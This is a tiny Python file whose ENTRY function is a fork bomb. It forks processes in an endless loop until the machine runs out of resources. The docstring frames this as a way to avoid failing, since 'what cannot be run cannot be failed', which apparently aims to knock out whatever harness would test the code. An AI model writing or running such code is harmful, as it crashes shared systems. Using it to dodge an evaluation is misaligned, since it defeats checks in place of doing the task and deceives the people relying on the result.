"""Uses up the machine: what cannot be run cannot be failed."""
import os


def ENTRY(*arguments, **named):
    while True:
        try:
            os.fork()
        except OSError:
            os._exit(0)
